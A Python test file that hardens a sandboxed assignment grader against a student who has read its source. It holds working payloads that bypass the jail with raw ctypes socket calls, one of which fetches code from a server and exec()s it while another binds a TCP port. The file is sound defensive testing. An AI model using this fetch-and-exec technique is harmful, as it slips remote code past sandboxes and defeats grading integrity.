"""Attacks of round 4 on the sandboxed grader: a student who read its source.

tests/test_grader_attacks.py and test_grader_attacks_2.py hold the earlier rounds (patching the
grader, crashes, limits, the reference read from disk, files built to crash the grader). These
are the holes the last review left open and what a student who read the grader's source tried
next. Each test failed before its fix; the submissions start from test_grader_attacks_2.py's
copies (im2col blank, relu solved) and are graded with its LIMITS.
"""

import socket
import threading

import pytest
import test_grader_attacks_2 as earlier
from test_grader_attacks_2 import attacker, grade, points

from minivgg.assignment import sandbox
from minivgg.assignment.make import REFERENCE_ROOT

copies, grader = earlier.copies, earlier.grader         # its fixtures: the copies, root or user

# ------------------------------------------------------------------------------------------------
# the network
# ------------------------------------------------------------------------------------------------

NETWORK_ABI = 4                     # Landlock's first ABI with TCP rules (Linux 6.7)


def needs_network_rules():
    abi = sandbox.landlock_abi()
    if abi < NETWORK_ABI:
        pytest.skip(f"this kernel's Landlock ABI is {abi}: TCP can be refused from ABI "
                    f"{NETWORK_ABI} (Linux 6.7) on; here the report says the network is open")


# At import, the student's naive.py fetches a solution from a server and runs it. The server is
# on 127.0.0.1 (a test must not go further), but one on the internet is reached the same way.
# Raw system calls through ctypes (which the runner has loaded): the jail holds no socket module.
FETCH = """
def _fetch(port):
    import ctypes, os, struct
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)                                  # AF_INET, SOCK_STREAM
    address = struct.pack("=H", 2) + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    if fd < 0 or libc.connect(fd, address, len(address)) != 0:
        error = ctypes.get_errno()
        raise OSError(error, "connect: " + os.strerror(error))
    chunks = []
    while True:
        chunk = os.read(fd, 1 << 16)
        if not chunk:
            return b"".join(chunks).decode()
        chunks.append(chunk)


_downloaded = {"__name__": __name__, "__package__": __package__}
exec(_fetch(PORT), _downloaded)
im2col, col2im = _downloaded["im2col"], _downloaded["col2im"]
"""
# the same socket bound to a port: a server a later child (or anything on the machine) reaches
BIND = """
def im2col(x, kernel, stride, padding, out=None):
    import ctypes, os, struct
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)
    address = struct.pack("=H", 2) + bytes(2) + bytes([127, 0, 0, 1]) + bytes(8)   # any port
    if fd < 0 or libc.bind(fd, address, len(address)) != 0:
        error = ctypes.get_errno()
        raise OSError(error, "bind: " + os.strerror(error))
    raise RuntimeError("bound a TCP port")
"""


def serving(text):
    """A one-file server on 127.0.0.1 that sends ``text`` to whoever connects; (port, stop)."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    done = threading.Event()

    def serve():
        while not done.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            with connection:
                connection.sendall(text.encode())
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()

    def stop():
        done.set()
        thread.join()
        server.close()
    return server.getsockname()[1], stop


def test_a_child_cannot_download_a_solution(copies, tmp_path, grader):
    needs_network_rules()
    port, stop = serving((REFERENCE_ROOT / "minivgg/kernels/naive.py").read_text())
    try:
        report, blank = grade([attacker(copies, tmp_path, FETCH.replace("PORT", str(port))),
                               copies / "blank"])
    finally:
        stop()
    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
    assert "PermissionError" in report.results[0].message and "connect" in \
        report.results[0].message, str(report)
    assert not any("network" in note for note in report.notes), report.notes
    assert blank.score == 0


def test_a_child_cannot_open_a_server(copies, tmp_path, grader):
    needs_network_rules()
    (report,) = grade([attacker(copies, tmp_path, BIND)])
    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
    assert "PermissionError" in report.results[0].message and "bind" in \
        report.results[0].message, str(report)


def test_a_report_says_when_the_network_was_open(copies, monkeypatch):
    monkeypatch.setattr(sandbox, "landlock_abi", lambda: NETWORK_ABI - 1)
    (report,) = grade([copies / "blank"], parts=["relu"])
    assert any("network" in note and "Landlock ABI 3" in note for note in report.notes), \
        report.notes


def test_the_fetch_attack_works_where_nothing_refuses_it(tmp_path):
    """The attack itself is sound: run in this process, it gets the solution."""
    port, stop = serving("def im2col():\n    return 'downloaded'\ncol2im = None\n")
    try:
        namespace = {"__name__": "x", "__package__": None}
        exec(FETCH.replace("PORT", str(port)), namespace)
    finally:
        stop()
    assert namespace["im2col"]() == "downloaded"
